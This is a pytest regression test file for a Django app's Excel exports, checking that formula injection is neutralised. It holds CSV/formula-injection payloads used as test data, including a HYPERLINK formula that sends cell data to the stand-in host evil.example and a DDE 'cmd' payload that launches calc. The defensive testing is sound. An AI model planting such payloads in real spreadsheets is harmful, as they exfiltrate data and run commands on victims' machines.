"""A nominee named `=1+1` or `=HYPERLINK(...)` was written as a live formula
in the nomination export, the decision annex and the statistics export. Every text cell is now
written as text, with a leading = + - @ tab or CR neutralised (OWASP): opening each file with
openpyxl finds no formula."""

import io

import pytest
from openpyxl import load_workbook

from commendations.nominations.models import Nomination, NominationState
from commendations.reports.excel_export import (
    decision_annex_xlsx,
    nominations_xlsx,
    statistics_xlsx,
)
from commendations.reports.statistics import campaign_statistics
from tests.factories import DecisionFactory, NominationFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&C2,"Nguyen Van A")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=2+2",
    "\r=3+3",
]


def _assert_no_formula(content: bytes, *, expect: list[str]) -> None:
    workbook = load_workbook(io.BytesIO(content))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value
                    texts.append(cell.value)
    for value in expect:
        assert any(value.lstrip("\t\r") in text for text in texts), value


def _nominations(campaign, district, director_award):
    return [
        NominationFactory(
            campaign=campaign,
            unit=district,
            award_type=director_award,
            nominee_kind="individual",
            nominee_name=name,
            position="=cmd|' /C calc'!A0",
        )
        for name in HOSTILE
    ]


def test_nomination_export_has_no_formula(campaign, district, director_award):
    nominations = _nominations(campaign, district, director_award)
    _assert_no_formula(nominations_xlsx(nominations), expect=HOSTILE)


def test_decision_annex_has_no_formula(campaign, district, director_award):
    decision = DecisionFactory(number="=1+1")
    for nomination in _nominations(campaign, district, director_award):
        Nomination.objects.filter(pk=nomination.pk).update(
            state=NominationState.AWAITING_DIRECTOR, decision=decision
        )
    _assert_no_formula(decision_annex_xlsx(decision), expect=[*HOSTILE, "=1+1"])


def test_statistics_export_has_no_formula(campaign, district, director_award, director):
    _nominations(campaign, district, director_award)
    district.name = '=HYPERLINK("http://evil.example","x")'
    district.save()
    campaign.name = "@SUM(1)"
    campaign.save()
    stats = campaign_statistics(campaign=campaign, user=director)
    _assert_no_formula(statistics_xlsx(stats), expect=["@SUM(1)"])
